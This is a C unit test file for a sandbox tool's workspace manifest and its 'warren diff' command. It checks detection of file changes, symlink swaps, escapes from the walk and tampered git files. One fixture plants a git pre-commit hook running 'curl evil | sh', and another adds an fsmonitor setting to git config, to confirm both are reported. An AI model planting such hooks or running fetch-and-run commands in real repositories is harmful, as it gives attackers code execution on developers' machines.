/*
 * Unit tests for the workspace manifest (src/runtime/manifest.c): the
 * baseline of a direct-mode workspace and `warren diff`'s comparison.
 *
 * The fixture is BASE/ws (the workspace), BASE/manifest (the baseline) and
 * BASE/outside, a directory holding "canary" that links in the workspace
 * point at: no walk may ever report it. Runs as root (chown).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>
#include <fcntl.h>
#include <jansson.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "cli/cli.h"
#include "common/common.h"
#include "runtime/manifest.h"
#include "runtime/runtime.h"

struct fx {
  char base[64];
  char ws[128];
  char manifest[128];
  char outside[128];
};

static const char *at(const struct fx *f, const char *rel) {
  static char path[8192];

  snprintf(path, sizeof(path), "%s/%s", f->ws, rel);
  return path;
}

static void put(const struct fx *f, const char *rel, const char *data) {
  int fd = open(at(f, rel), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

  assert_true(fd >= 0);
  assert_int_equal(wr_write_all(fd, data, strlen(data), NULL), 0);
  close(fd);
}

static void mk(const struct fx *f, const char *rel) {
  assert_int_equal(mkdir(at(f, rel), 0755), 0);
}

static void ln(const struct fx *f, const char *target, const char *rel) {
  assert_int_equal(symlink(target, at(f, rel)), 0);
}

static int setup(void **state) {
  struct fx *f = xcalloc(1, sizeof(*f));
  char canary[256];

  strcpy(f->base, "/tmp/wr-manifest-XXXXXX");
  assert_non_null(mkdtemp(f->base));
  snprintf(f->ws, sizeof(f->ws), "%s/ws", f->base);
  snprintf(f->manifest, sizeof(f->manifest), "%s/manifest", f->base);
  snprintf(f->outside, sizeof(f->outside), "%s/outside", f->base);
  assert_int_equal(mkdir(f->ws, 0755), 0);
  assert_int_equal(mkdir(f->outside, 0755), 0);
  snprintf(canary, sizeof(canary), "%s/canary", f->outside);
  assert_int_equal(close(creat(canary, 0644)), 0);
  mk(f, "src");
  put(f, "src/main.c", "int main(void) { return 0; }\n");
  put(f, "README", "hello\n");
  mk(f, ".git");
  mk(f, ".git/hooks");
  put(f, ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
  put(f, ".git/config", "[core]\n");
  ln(f, f->outside, "out");
  ln(f, "/", "root");
  *state = f;
  return 0;
}

static int teardown(void **state) {
  struct fx *f = *state;

  assert_int_equal(wr_rm_rf(f->base, NULL), 0);
  free(f);
  return 0;
}

/* The manifest functions take the workspace as an open directory, as
 * wr_workspace_open gives it. */
static int save_at(const struct fx *f, const struct wr_manifest_limits *lim,
                   wr_error_t *err) {
  int fd = open(f->ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC), r;

  if (fd < 0)
    return wr_error_set(err, errno, "open `%s`", f->ws);
  r = lim ? wr_manifest_save_limits(fd, f->manifest, lim, err)
          : wr_manifest_save(fd, f->manifest, err);
  close(fd);
  return r;
}

static json_t *diff_at(const struct fx *f, size_t max,
                       const struct wr_manifest_limits *lim, wr_error_t *err) {
  int fd = open(f->ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  json_t *d;

  if (fd < 0) {
    wr_error_set(err, errno, "open `%s`", f->ws);
    return NULL;
  }
  d = lim ? wr_manifest_diff_limits(fd, f->manifest, max, lim, err)
          : wr_manifest_diff(fd, f->manifest, max, err);
  close(fd);
  return d;
}

static void save(const struct fx *f) {
  wr_error_t err = {0};

  if (save_at(f, NULL, &err) < 0)
    fail_msg("save: %s", err.msg);
  /* Timestamps come from a clock that may tick coarsely: make sure what
   * the test changes next is not stamped with the baseline's time. */
  usleep(20000);
}

/* The changes as "change type path" lines, plus "truncated" when so. */
static char *changes_text(const json_t *d) {
  wr_buf_t b;
  size_t i;
  json_t *c;

  wr_buf_init(&b);
  wr_buf_puts(&b, "");
  json_array_foreach (json_object_get(d, "changes"), i, c) {
    const char *was = json_string_value(json_object_get(c, "was"));
    wr_buf_printf(&b, "%s %s %s%s%s\n",
                  json_string_value(json_object_get(c, "change")),
                  json_string_value(json_object_get(c, "type")),
                  json_string_value(json_object_get(c, "path")),
                  was ? " was " : "", was ? was : "");
  }
  if (json_is_true(json_object_get(d, "truncated")))
    wr_buf_puts(&b, "truncated\n");
  return wr_buf_steal(&b, NULL);
}

static char *diff_limits(const struct fx *f, size_t max,
                         const struct wr_manifest_limits *lim) {
  wr_error_t err = {0};
  json_t *d = diff_at(f, max, lim, &err);
  char *text;

  if (d == NULL)
    fail_msg("diff: %s", err.msg);
  text = changes_text(d);
  json_decref(d);
  return text;
}

static char *diff(const struct fx *f) {
  return diff_limits(f, 1000, NULL);
}

#define assert_diff(f, expected)                                               \
  do {                                                                         \
    _cleanup_free_ char *got_ = diff(f);                                       \
    assert_string_equal(got_, expected);                                       \
  } while (0)

/* ---- tests ------------------------------------------------------------ */

static void test_unchanged(void **state) {
  struct fx *f = *state;
  _cleanup_free_ char *data = NULL;
  size_t len;

  save(f);
  assert_diff(f, "");
  /* Reading a file changes nothing that counts. */
  assert_int_equal(wr_read_file(at(f, "README"), 1024, &data, &len, NULL), 0);
  assert_diff(f, "");
}

static void test_changes(void **state) {
  struct fx *f = *state;

  mk(f, "lib");
  put(f, "lib/old.c", "old\n");
  put(f, "mode.sh", "echo\n");
  save(f);
  put(f, "README", "hello, world\n");              /* content */
  assert_int_equal(unlink(at(f, "lib/old.c")), 0); /* deleted */
  assert_int_equal(chmod(at(f, "mode.sh"), 0755), 0);
  assert_int_equal(chown(at(f, "src"), 1234, 1234), 0);
  put(f, "new.txt", "new\n");
  mk(f, "lib/sub");
  put(f, "lib/sub/x", "x");
  assert_diff(f, "modified file README\n"
                 "deleted file lib/old.c\n"
                 "added dir lib/sub\n"
                 "added file lib/sub/x\n"
                 "metadata file mode.sh\n"
                 "added file new.txt\n"
                 "metadata dir src\n");
}

/* Whole subtrees removed show every path that went. */
static void test_deleted_tree(void **state) {
  struct fx *f = *state;

  save(f);
  assert_int_equal(wr_rm_rf(at(f, "src"), NULL), 0);
  assert_diff(f, "deleted dir src\n"
                 "deleted file src/main.c\n");
}

/* An edit whose mtime (and atime) were put back, size kept: ctime tells. */
static void test_mtime_restored(void **state) {
  struct fx *f = *state;
  struct stat st;
  struct timespec times[2];

  save(f);
  assert_int_equal(lstat(at(f, "README"), &st), 0);
  put(f, "README", "HELLO\n");
  times[0] = st.st_atim;
  times[1] = st.st_mtim;
  assert_int_equal(utimensat(AT_FDCWD, at(f, "README"), times, 0), 0);
  assert_int_equal(lstat(at(f, "README"), &st), 0);
  assert_diff(f, "modified file README\n");
}

/* A file replaced by another with the same size and times: a new inode. */
static void test_replaced_same_stamp(void **state) {
  struct fx *f = *state;
  _cleanup_free_ char *from = NULL;
  struct stat st;
  struct timespec times[2];

  save(f);
  assert_int_equal(lstat(at(f, "README"), &st), 0);
  put(f, "README.new", "HELLO\n");
  times[0] = st.st_atim;
  times[1] = st.st_mtim;
  assert_int_equal(utimensat(AT_FDCWD, at(f, "README.new"), times, 0), 0);
  from = xstrdup(at(f, "README.new"));
  assert_int_equal(rename(from, at(f, "README")), 0);
  assert_diff(f, "modified file README\n");
}

static void test_symlink_swapped_for_dir(void **state) {
  struct fx *f = *state;

  mk(f, "d");
  put(f, "d/inner", "1");
  save(f);
  /* symlink -> directory with contents */
  assert_int_equal(unlink(at(f, "out")), 0);
  mk(f, "out");
  put(f, "out/planted", "x");
  /* directory with contents -> symlink */
  assert_int_equal(wr_rm_rf(at(f, "d"), NULL), 0);
  ln(f, "/etc", "d");
  assert_diff(f, "modified symlink d was dir\n"
                 "deleted file d/inner\n"
                 "modified dir out was symlink\n"
                 "added file out/planted\n");
}

static void test_symlink_target(void **state) {
  struct fx *f = *state;

  save(f);
  assert_int_equal(unlink(at(f, "root")), 0);
  ln(f, "/etc", "root");
  assert_diff(f, "modified symlink root\n");
}

/* What git status and git diff never show: a hook, and config. */
static void test_hook_added(void **state) {
  struct fx *f = *state;

  save(f);
  put(f, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
  assert_int_equal(chmod(at(f, ".git/hooks/pre-commit"), 0755), 0);
  put(f, ".git/config", "[core]\n\tfsmonitor = /tmp/x\n");
  assert_diff(f, "modified file .git/config\n"
                 "added file .git/hooks/pre-commit\n");
}

/* Names with spaces, newlines, backslashes and bytes that are not UTF-8
 * go through the file and back unchanged. */
static void test_odd_names(void **state) {
  struct fx *f = *state;

  put(f, "a b", "1");
  put(f, "line\nbreak", "2");
  put(f, "back\\slash", "3");
  put(f, "\xff\xfe", "4");
  ln(f, "target with space\n", "odd link");
  mk(f, "a");
  put(f, "a/x", "5");
  put(f, "a.txt", "6");
  save(f);
  assert_diff(f, "");
  assert_int_equal(unlink(at(f, "line\nbreak")), 0);
  assert_int_equal(unlink(at(f, "a.txt")), 0);
  assert_int_equal(unlink(at(f, "a/x")), 0);
  assert_diff(f, "deleted file a/x\n"
                 "deleted file a.txt\n"
                 "deleted file line\nbreak\n");
}

static void test_max_changes(void **state) {
  struct fx *f = *state;
  _cleanup_free_ char *got = NULL;

  save(f);
  put(f, "n1", "");
  put(f, "n2", "");
  put(f, "n3", "");
  got = diff_limits(f, 2, NULL);
  assert_string_equal(got, "added file n1\nadded file n2\ntruncated\n");
}

/* Below the depth limit nothing is seen, and the result says so. */
static void test_depth_limit(void **state) {
  struct fx *f = *state;
  struct wr_manifest_limits lim = {100, 2};
  _cleanup_free_ char *got = NULL;

  mk(f, "a");
  mk(f, "a/b");
  mk(f, "a/b/c");
  mk(f, "a/b/c/d");
  wr_error_t err = {0};
  assert_int_equal(save_at(f, &lim, &err), 0);
  usleep(20000);
  put(f, "a/b/c/d/deep", "x");
  put(f, "a/b/shallow", "x");
  got = diff_limits(f, 100, &lim);
  assert_string_equal(got, "added file a/b/shallow\ntruncated\n");
}

/* The entry limit: the walk stops, and what came after the baseline's
 * last record is neither added nor deleted. */
static void test_entry_limit(void **state) {
  struct fx *f = *state;
  struct wr_manifest_limits lim = {6, 16};
  wr_error_t err = {0};
  _cleanup_free_ char *got = NULL;

  assert_int_equal(wr_rm_rf(at(f, ".git"), NULL), 0);
  assert_int_equal(wr_rm_rf(at(f, "src"), NULL), 0);
  assert_int_equal(unlink(at(f, "out")), 0);
  assert_int_equal(unlink(at(f, "root")), 0);
  assert_int_equal(unlink(at(f, "README")), 0);
  for (int i = 1; i <= 3; i++) {
    char d[16], p[32];
    snprintf(d, sizeof(d), "d%d", i);
    mk(f, d);
    for (int k = 0; k < 3; k++) {
      snprintf(p, sizeof(p), "d%d/f%d", i, k);
      put(f, p, "x");
    }
  }
  assert_int_equal(save_at(f, &lim, &err), 0);
  usleep(20000);
  assert_int_equal(unlink(at(f, "d1/f1")), 0);
  put(f, "d3/new", "x");
  got = diff_limits(f, 100, &lim);
  assert_string_equal(got, "deleted file d1/f1\ntruncated\n");
}

/* A directory with more names than the walk may record is recorded but
 * not walked. */
static void test_wide_dir(void **state) {
  struct fx *f = *state;
  struct wr_manifest_limits lim = {8, 16};
  wr_error_t err = {0};
  _cleanup_free_ char *got = NULL;

  assert_int_equal(wr_rm_rf(at(f, ".git"), NULL), 0);
  mk(f, "wide");
  for (int i = 0; i < 12; i++) {
    char p[32];
    snprintf(p, sizeof(p), "wide/f%02d", i);
    put(f, p, "x");
  }
  assert_int_equal(save_at(f, &lim, &err), 0);
  usleep(20000);
  put(f, "wide/f99", "x");
  put(f, "README", "changed");
  got = diff_limits(f, 100, &lim);
  assert_string_equal(got, "modified file README\ntruncated\n");
}

/* A filesystem mounted below the workspace is not entered. */
static void test_other_filesystem(void **state) {
  struct fx *f = *state;

  mk(f, "mnt");
  if (mount("tmpfs", at(f, "mnt"), "tmpfs", 0, "size=1m") < 0)
    skip();
  put(f, "mnt/a", "x");
  save(f);
  put(f, "mnt/b", "x");
  {
    _cleanup_free_ char *got = diff(f);
    assert_int_equal(umount2(at(f, "mnt"), MNT_DETACH), 0);
    assert_string_equal(got, "");
  }
}

static void test_missing_manifest(void **state) {
  struct fx *f = *state;
  wr_error_t err = {0};

  assert_null(diff_at(f, 10, NULL, &err));
  assert_int_equal(err.code, ENOENT);
}

static void test_damaged_manifest(void **state) {
  struct fx *f = *state;
  static const char *const bad[] = {
      "",
      "something else\n",
      "warren-manifest 1\n",            /* no trailer */
      "warren-manifest 1\nend 1 0 0\n", /* wrong count */
      "warren-manifest 1\nf- 0644 0 0 1 1.000000000 1.000000000 5 a\n"
      "f- 0644 0 0 1 1.000000000 1.000000000 6 a\nend 2 0 0\n", /* order */
      "warren-manifest 1\nf- 0644 0 0 1 1.0 1.000000000 5 a\nend 1 0 0\n",
      "warren-manifest 1\nl- 0777 0 0 1 1.000000000 1.000000000 5 a\n"
      "end 1 0 0\n", /* a link without a target */
      "warren-manifest 1\nf- 0644 0 0 1 1.000000000 1.000000000 5 a\\x00\n"
      "end 1 0 0\n",
      "warren-manifest 1\nend 0 0 0\ntrailing\n",
  };
  wr_error_t err = {0};

  for (size_t i = 0; i < WR_ARRAY_SIZE(bad); i++) {
    assert_int_equal(
        wr_write_file(f->manifest, bad[i], strlen(bad[i]), 0600, NULL), 0);
    if (diff_at(f, 10, NULL, &err) != NULL)
      fail_msg("damaged manifest %zu accepted", i);
    assert_int_equal(err.code, EINVAL);
  }
}

static void test_file_mode(void **state) {
  struct fx *f = *state;
  struct stat st;

  save(f);
  assert_int_equal(stat(f->manifest, &st), 0);
  assert_int_equal(st.st_mode & 0777, 0600);
}

struct swapper {
  const struct fx *f;
  atomic_bool stop;
  long swaps;
};

/* The "sandbox": keep exchanging a directory and a symlink to a host
 * directory while the walk runs. */
static void *swap_loop(void *arg) {
  struct swapper *s = arg;
  char dir[256], link[256];

  snprintf(dir, sizeof(dir), "%s/swap", s->f->ws);
  snprintf(link, sizeof(link), "%s/swaplink", s->f->ws);
  while (!atomic_load(&s->stop))
    if (renameat2(AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) == 0)
      s->swaps++;
  return NULL;
}

static void test_race(void **state) {
  struct fx *f = *state;
  struct swapper s = {.f = f};
  pthread_t t;

  mk(f, "swap");
  put(f, "swap/inside", "x");
  ln(f, f->outside, "swaplink");
  save(f);
  atomic_init(&s.stop, false);
  assert_int_equal(pthread_create(&t, NULL, swap_loop, &s), 0);
  for (int i = 0; i < 300; i++) {
    _cleanup_free_ char *got = diff(f);
    if (strstr(got, "canary") != NULL)
      fail_msg("walked outside: %s", got);
    if (i % 50 == 0)
      save(f);
  }
  atomic_store(&s.stop, true);
  pthread_join(t, NULL);
  assert_true(s.swaps > 10);
}

/* ---- `warren diff`'s parser and text form ------------------------------ */

static void test_cli_parse(void **state) {
  struct wr_cli_diff_opts o;
  wr_error_t err = {0};
  char *ok[] = {"diff", "--json", "--limit", "5", "web", NULL};
  char *none[] = {"diff", NULL};
  char *two[] = {"diff", "a", "b", NULL};
  char *zero[] = {"diff", "--limit", "0", "web", NULL};
  (void)state;

  assert_int_equal(wr_cli_diff_parse(5, ok, &o, &err), 0);
  assert_string_equal(o.sandbox, "web");
  assert_true(o.json);
  assert_int_equal(o.limit, 5);
  assert_int_equal(wr_cli_diff_parse(1, none, &o, &err), -1);
  assert_int_equal(wr_cli_diff_parse(3, two, &o, &err), -1);
  assert_int_equal(wr_cli_diff_parse(4, zero, &o, &err), -1);
  assert_non_null(strstr(err.msg, "--limit"));
}

/* git's object store is counted per directory (nested repositories too);
 * hooks and config are listed and pointed out; the rest is listed. */
static void test_cli_print(void **state) {
  static const char reply[] =
      "{\"truncated\": false, \"changes\": ["
      "{\"path\": \".git/config\", \"change\": \"modified\", "
      "\"type\": \"file\"},"
      "{\"path\": \".git/hooks/pre-commit\", \"change\": \"added\", "
      "\"type\": \"file\"},"
      "{\"path\": \".git/hooks/pre-push.sample\", \"change\": "
      "\"deleted\", \"type\": \"file\"},"
      "{\"path\": \".git/index\", \"change\": \"modified\", "
      "\"type\": \"file\"},"
      "{\"path\": \".git/info/exclude\", \"change\": \"metadata\", "
      "\"type\": \"file\"},"
      "{\"path\": \".git/objects/ab\", \"change\": \"added\", "
      "\"type\": \"dir\"},"
      "{\"path\": \".git/objects/ab/cdef\", \"change\": \"added\", "
      "\"type\": \"file\"},"
      "{\"path\": \".git/objects/cd/0123\", \"change\": \"deleted\", "
      "\"type\": \"file\"},"
      "{\"path\": \"README\", \"change\": \"deleted\", "
      "\"type\": \"file\"},"
      "{\"path\": \"lib\", \"change\": \"modified\", "
      "\"type\": \"dir\", \"was\": \"symlink\"},"
      "{\"path\": \"sub/.git/objects/ef\", \"change\": \"added\", "
      "\"type\": \"dir\"},"
      "{\"path\": \"x.git/objects\", \"change\": \"added\", "
      "\"type\": \"file\"}]}";
  static const char expected[] =
      "M .git/config   (git config: can make git run programs, git diff "
      "does not show it)\n"
      "A .git/hooks/pre-commit   (git hook: git runs it, git diff does not "
      "show it)\n"
      "D .git/hooks/pre-push.sample\n"
      "M .git/index\n"
      "m .git/info/exclude\n"
      "* .git/objects/   (2 added, 1 deleted; git's internals, not listed "
      "one by one)\n"
      "D README\n"
      "M lib/   (now a dir, was a symlink)\n"
      "* sub/.git/objects/   (1 added; git's internals, not listed one by "
      "one)\n"
      "A x.git/objects\n";
  _cleanup_json_ json_t *j = json_loads(reply, 0, NULL);
  char *text = NULL;
  size_t len = 0;
  FILE *out = open_memstream(&text, &len);
  (void)state;

  assert_non_null(j);
  assert_non_null(out);
  wr_cli_diff_print(out, j);
  fclose(out);
  assert_string_equal(text, expected);
  free(text);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test_setup_teardown(test_unchanged, setup, teardown),
      cmocka_unit_test_setup_teardown(test_changes, setup, teardown),
      cmocka_unit_test_setup_teardown(test_deleted_tree, setup, teardown),
      cmocka_unit_test_setup_teardown(test_mtime_restored, setup, teardown),
      cmocka_unit_test_setup_teardown(test_replaced_same_stamp, setup,
                                      teardown),
      cmocka_unit_test_setup_teardown(test_symlink_swapped_for_dir, setup,
                                      teardown),
      cmocka_unit_test_setup_teardown(test_symlink_target, setup, teardown),
      cmocka_unit_test_setup_teardown(test_hook_added, setup, teardown),
      cmocka_unit_test_setup_teardown(test_odd_names, setup, teardown),
      cmocka_unit_test_setup_teardown(test_max_changes, setup, teardown),
      cmocka_unit_test_setup_teardown(test_depth_limit, setup, teardown),
      cmocka_unit_test_setup_teardown(test_entry_limit, setup, teardown),
      cmocka_unit_test_setup_teardown(test_wide_dir, setup, teardown),
      cmocka_unit_test_setup_teardown(test_other_filesystem, setup, teardown),
      cmocka_unit_test_setup_teardown(test_missing_manifest, setup, teardown),
      cmocka_unit_test_setup_teardown(test_damaged_manifest, setup, teardown),
      cmocka_unit_test_setup_teardown(test_file_mode, setup, teardown),
      cmocka_unit_test_setup_teardown(test_race, setup, teardown),
      cmocka_unit_test(test_cli_parse),
      cmocka_unit_test(test_cli_print),
  };

  if (getenv("WR_TEST_FILTER") != NULL)
    cmocka_set_test_filter(getenv("WR_TEST_FILTER"));
  return cmocka_run_group_tests(tests, NULL, NULL);
}
